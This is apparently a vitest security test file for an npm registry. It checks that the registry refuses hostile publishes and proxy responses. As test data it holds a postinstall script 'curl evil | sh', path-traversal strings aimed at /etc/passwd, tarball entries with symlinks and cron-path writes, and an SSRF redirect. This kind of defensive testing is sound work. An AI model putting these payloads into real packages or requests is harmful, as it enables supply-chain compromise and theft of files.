// Hostile and malformed input to the npm format: each answered with npm's JSON error body
// and the right status, and nothing stored changes.
import { randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTarball, packageTarball, publishBody } from '../helpers/npm-publish-body.js';
import { createUserAndToken, rawRequest, startRegistry, type RunningRegistry } from '../helpers/registry-process.js';

/** An upstream whose packument announces an integrity its tarball does not have. */
async function lyingUpstream(): Promise<{ server: Server; tarballHits: number; internalHits: number }> {
  const state = { server: undefined as unknown as Server, tarballHits: 0, internalHits: 0 };
  const real = await packageTarball({ name: 'liar', version: '1.0.0' });
  const tampered = await packageTarball({ name: 'liar', version: '1.0.0', scripts: { postinstall: 'curl evil | sh' } });
  state.server = createServer((req, res) => {
    if (req.url === '/liar') {
      const body = JSON.parse(publishBody({ name: 'liar', version: '1.0.0' }, real)) as { versions: Record<string, { dist: { tarball: string } }> };
      const port = (state.server.address() as AddressInfo).port;
      body.versions['1.0.0']!.dist.tarball = `http://127.0.0.1:${port}/liar/-/liar-1.0.0.tgz`;
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ name: 'liar', 'dist-tags': { latest: '1.0.0' }, versions: body.versions }));
    } else if (req.url === '/redirector') {
      // Same machine, other origin ("localhost" is not "127.0.0.1"): stands for an internal address.
      const port = (state.server.address() as AddressInfo).port;
      res.writeHead(307, { location: `http://localhost:${port}/internal-secret` }).end();
    } else if (req.url === '/internal-secret') {
      state.internalHits++;
      res.writeHead(200, { 'content-type': 'application/json' }).end('{"name":"redirector","versions":{},"secret":"metadata-credentials"}');
    } else if (req.url === '/liar/-/liar-1.0.0.tgz') {
      state.tarballHits++;
      res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(tampered);
    } else {
      res.writeHead(404).end();
    }
  });
  await new Promise<void>((resolve) => state.server.listen(0, '127.0.0.1', () => resolve()));
  return state;
}

describe('npm bad input', () => {
  let registry: RunningRegistry;
  let token: string;
  let readOnly: string;

  let liar: { server: Server; tarballHits: number; internalHits: number };

  beforeAll(async () => {
    liar = await lyingUpstream();
    registry = await startRegistry(`
limits: { maxUploadSize: 1mb }
repositories:
  npm-local: { format: npm, type: hosted }
  npm-kept: { format: npm, type: hosted, allowUnpublish: false }
  npm-liar: { format: npm, type: proxy, upstream: "http://127.0.0.1:${(liar.server.address() as AddressInfo).port}/" }
  # Declared before the group it contains: build order must not depend on config order.
  npm-outer: { format: npm, type: group, members: [npm-inner, npm-liar] }
  npm-inner: { format: npm, type: group, members: [npm-private] }
  npm-private: { format: npm, type: hosted, anonymousRead: false }
  # "liar" is the upstream's too: publishing it privately is claimed (else refused as shadowing).
  npm-mixed: { format: npm, type: group, members: [npm-private, npm-liar], routing: { "liar": [npm-private] } }
`);
    token = await createUserAndToken(registry.configFile, 'alice');
    readOnly = await createUserAndToken(registry.configFile, 'alice', { readOnly: true });
  });
  afterAll(async () => {
    await registry?.stop();
    liar?.server.close();
  });

  const put = (rawPath: string, body: string | Buffer, auth: string | null = token) =>
    rawRequest(registry.url, `/npm-local/${rawPath}`, {
      method: 'PUT',
      headers: { 'content-type': 'application/json', ...(auth ? { authorization: `Bearer ${auth}` } : {}) },
      body,
    });

  async function expectRefused(answer: { status: number; body: string; headers: Record<string, unknown> }, status: number, message: RegExp) {
    expect(answer.status, answer.body).toBe(status);
    expect(String(answer.headers['content-type'])).toContain('application/json');
    expect((JSON.parse(answer.body) as { error: string }).error).toMatch(message);
  }

  async function expectNotStored(name: string) {
    const doc = await rawRequest(registry.url, `/npm-local/${name.replace('/', '%2f')}`);
    // 404, or 400 for a name that cannot exist at all.
    expect([400, 404], `${name} must not exist`).toContain(doc.status);
  }

  const good = { name: 'good-pkg', version: '1.0.0' };

  it('accepts a well-formed publish (the baseline the others deviate from)', async () => {
    const answer = await put('good-pkg', publishBody(good, await packageTarball(good)));
    expect(answer.status, answer.body).toBe(201);
  });

  it('refuses a republish of an existing version with 403', async () => {
    const other = await packageTarball({ ...good, description: 'different bytes' });
    await expectRefused(await put('good-pkg', publishBody({ ...good, description: 'different bytes' }, other)), 403, /cannot modify pre-existing version: 1.0.0/);
  });

  it.each([
    ['foo..bar', 'foo..bar', /contains "\.\."/],
    ['capitals', 'Acme-Caps', /lowercase/],
    ['over 214 characters', 'a'.repeat(215), /longer than 214/],
    ['leading dot', '.hidden', /starts with/],
    ['space', 'has%20space', /spaces/],
  ])('refuses a name with %s', async (_label, name, message) => {
    const manifest = { name: decodeURIComponent(name), version: '1.0.0' };
    await expectRefused(await put(name, publishBody(manifest, await packageTarball(manifest))), 400, message);
    await expectNotStored(name);
  });

  it.each(['..%2f..%2fetc%2fpasswd', '%2e%2e/x', 'a%2fb', '@scope%2f..%2fx', '@%2fx'])('refuses the path trick %s', async (path) => {
    const manifest = { name: 'x', version: '1.0.0' };
    const answer = await put(path, publishBody(manifest, await packageTarball(manifest)));
    expect([400, 404]).toContain(answer.status);
    expect((JSON.parse(answer.body) as { error: string }).error).toBeTruthy();
  });

  it('refuses a publish body nested 100k levels deep with 400 in npm\'s error shape, not a 500', async () => {
    const depth = 100_000;
    const deep = `{"name":"deep-pkg","versions":{"1.0.0":{"name":"deep-pkg","version":"1.0.0","x":${'['.repeat(depth)}${']'.repeat(depth)}}}}`;
    await expectRefused(await put('deep-pkg', deep), 400, /nested more than \d+ levels/);
    await expectNotStored('deep-pkg');
    // The server is still serving.
    expect((await rawRequest(registry.url, '/-/health')).status).toBe(200);
  });

  it('refuses an invalid semver version', async () => {
    const manifest = { name: 'bad-version', version: '1.0' };
    await expectRefused(await put('bad-version', publishBody(manifest, await packageTarball(manifest))), 400, /not a valid semver/);
    await expectNotStored('bad-version');
  });

  it('refuses an attachment that does not match dist.integrity or shasum', async () => {
    const manifest = { name: 'bad-digest', version: '1.0.0' };
    const tarball = await packageTarball(manifest);
    await expectRefused(await put('bad-digest', publishBody(manifest, tarball, { integrity: `sha512-${Buffer.alloc(64).toString('base64')}` })), 400, /sha512/);
    await expectRefused(await put('bad-digest', publishBody(manifest, tarball, { integrity: '', shasum: '0'.repeat(40) })), 400, /sha1/);
    await expectNotStored('bad-digest');
  });

  it('answers 413 for a body or a tarball over the limit', async () => {
    const manifest = { name: 'too-big', version: '1.0.0' };
    const huge = await packageTarball(manifest, [{ name: 'package/blob.bin', content: randomBytes(1_500_000) }]);
    const answer = await put('too-big', publishBody(manifest, huge));
    expect(answer.status, answer.body).toBe(413);
    await expectNotStored('too-big');
    const body = Buffer.alloc(4 * 1024 * 1024, 0x20);
    expect((await put('too-big', body)).status).toBe(413);
  });

  it('refuses an attachment that is not a gzip tarball', async () => {
    const manifest = { name: 'not-gzip', version: '1.0.0' };
    await expectRefused(await put('not-gzip', publishBody(manifest, Buffer.from('just some text, not a tarball'))), 400, /not a gzip-compressed tarball/);
    await expectNotStored('not-gzip');
  });

  it.each([
    ['a symlink', { name: 'package/evil', type: 'symlink' as const, linkname: '/etc/passwd' }, /symlink/],
    ['a hard link', { name: 'package/evil', type: 'link' as const, linkname: 'package/index.js' }, /link/],
    ['an absolute path', { name: '/etc/cron.d/evil', content: 'x' }, /absolute path/],
    ['a .. entry', { name: 'package/../../evil', content: 'x' }, /"\.\."/],
    ['a device', { name: 'package/dev', type: 'character-device' as const }, /character-device/],
  ])('refuses a tarball with %s', async (_label, entry, message) => {
    const manifest = { name: 'hostile-tarball', version: '1.0.0' };
    const tarball = await makeTarball([{ name: 'package/package.json', content: JSON.stringify(manifest) }, entry]);
    await expectRefused(await put('hostile-tarball', publishBody(manifest, tarball)), 400, message);
    await expectNotStored('hostile-tarball');
  });

  it.each([
    ['dependencies', { dependencies: { 'left-pad': '1.0.0' } }, { dependencies: { 'evil-pad': '1.0.0' } }],
    ['scripts', {}, { scripts: { postinstall: 'curl evil | sh' } }],
    ['bin', { bin: { tool: 'cli.js' } }, { bin: { tool: 'other.js' } }],
    ['version', {}, { version: '9.9.9' }],
  ])('refuses a manifest whose %s disagrees with the tarball (manifest confusion)', async (field, published, packed) => {
    const manifest = { name: 'confused', version: '1.0.0', ...published };
    const tarball = await packageTarball({ name: 'confused', version: '1.0.0', ...published, ...packed });
    await expectRefused(await put('confused', publishBody(manifest, tarball)), 400, new RegExp(`"${field}" does not match`));
    await expectNotStored('confused');
  });

  it('refuses a publish with no token (401) or a read-only one (403)', async () => {
    const manifest = { name: 'needs-auth', version: '1.0.0' };
    const body = publishBody(manifest, await packageTarball(manifest));
    const anonymous = await put('needs-auth', body, null);
    expect(anonymous.status).toBe(401);
    expect(anonymous.headers['www-authenticate']).toBeTruthy();
    await expectRefused(await put('needs-auth', body, readOnly), 403, /read-only/);
    await expectNotStored('needs-auth');
  });

  it('refuses a search with an absurd size', async () => {
    const answer = await rawRequest(registry.url, '/npm-local/-/v1/search?text=a&size=99999999');
    expect(answer.status).toBe(400);
    expect((JSON.parse(answer.body) as { error: string }).error).toMatch(/size/);
    expect((await rawRequest(registry.url, '/npm-local/-/v1/search?text=a&size=-1')).status).toBe(400);
  });

  it('refuses unpublish where the repository forbids it', async () => {
    const manifest = { name: 'kept-forever', version: '1.0.0' };
    expect((await rawRequest(registry.url, '/npm-kept/kept-forever', { method: 'PUT', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: publishBody(manifest, await packageTarball(manifest)) })).status).toBe(201);
    const doc = JSON.parse((await rawRequest(registry.url, '/npm-kept/kept-forever')).body) as { _rev: string };
    const removed = await rawRequest(registry.url, `/npm-kept/kept-forever/-rev/${doc._rev}`, { method: 'DELETE', headers: { authorization: `Bearer ${token}` } });
    await expectRefused(removed, 403, /unpublishing is disabled/);
    expect((await rawRequest(registry.url, '/npm-kept/kept-forever')).status).toBe(200);
  });

  it('never caches a proxied tarball that does not match its announced integrity', async () => {
    const wrong = await rawRequest(registry.url, '/npm-liar/liar/-/liar-1.0.0.tgz');
    expect(wrong.status).toBe(502);
    expect((JSON.parse(wrong.body) as { error: string }).error).toMatch(/does not match its announced digest/);
    // Asked again: still refused (nothing was cached), and the upstream was asked again.
    expect((await rawRequest(registry.url, '/npm-liar/liar/-/liar-1.0.0.tgz')).status).toBe(502);
    expect(liar.tarballHits).toBe(2);
  });

  it('refuses self-registration unless the config allows it', async () => {
    const answer = await rawRequest(registry.url, '/npm-local/-/user/org.couchdb.user:mallory', {
      method: 'PUT',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ name: 'mallory', password: 'mallory-password', type: 'user' }),
    });
    await expectRefused(answer, 403, /self-registration is disabled/);
  });

  it('never lets an unpublished version come back with other bytes', async () => {
    const manifest = { name: 'reborn', version: '1.0.0' };
    const auth = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
    expect((await put('reborn', publishBody(manifest, await packageTarball(manifest)))).status).toBe(201);
    const doc = JSON.parse((await rawRequest(registry.url, '/npm-local/reborn')).body) as { _rev: string };
    expect((await rawRequest(registry.url, `/npm-local/reborn/-rev/${doc._rev}`, { method: 'DELETE', headers: auth })).status).toBe(200);
    expect((await rawRequest(registry.url, '/npm-local/reborn')).status).toBe(404);
    const other = { ...manifest, description: 'different bytes, same version' };
    await expectRefused(await put('reborn', publishBody(other, await packageTarball(other))), 403, /never reused/);
    const next = { name: 'reborn', version: '1.0.1' };
    expect((await put('reborn', publishBody(next, await packageTarball(next)))).status).toBe(201);
  });

  it('never lets a group read past a member that refuses the client', async () => {
    const manifest = { name: 'liar', version: '2.0.0' }; // the lying upstream has "liar" too
    const published = await rawRequest(registry.url, '/npm-private/liar', { method: 'PUT', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: publishBody(manifest, await packageTarball(manifest)) });
    expect(published.status, published.body).toBe(201);
    for (const path of ['/npm-mixed/liar', '/npm-mixed/liar/-/liar-2.0.0.tgz', '/npm-outer/liar', '/npm-private/liar']) {
      const anonymous = await rawRequest(registry.url, path);
      expect(anonymous.status, path).toBe(401);
    }
    const search = JSON.parse((await rawRequest(registry.url, '/npm-mixed/-/v1/search?text=liar')).body) as { objects: unknown[] };
    expect(search.objects).toEqual([]);
    const authorized = await rawRequest(registry.url, '/npm-outer/liar', { headers: { authorization: `Bearer ${token}` } });
    expect(authorized.status).toBe(200);
    expect(Object.keys((JSON.parse(authorized.body) as { versions: object }).versions)).toEqual(['2.0.0']);
  });

  it('refuses an upstream redirect to another origin (SSRF)', async () => {
    const before = liar.internalHits;
    const answer = await rawRequest(registry.url, '/npm-liar/redirector');
    expect(answer.status).toBe(502);
    expect((JSON.parse(answer.body) as { error: string }).error).toMatch(/not on the configured upstream/);
    expect(liar.internalHits).toBe(before);
  });

  it('still serves the good package unchanged after all of that', async () => {
    const doc = await rawRequest(registry.url, '/npm-local/good-pkg');
    expect(doc.status).toBe(200);
    expect(Object.keys((JSON.parse(doc.body) as { versions: object }).versions)).toEqual(['1.0.0']);
    const tgz = await fetch(`${registry.url}/npm-local/good-pkg/-/good-pkg-1.0.0.tgz`);
    expect(tgz.status).toBe(200);
  });
});
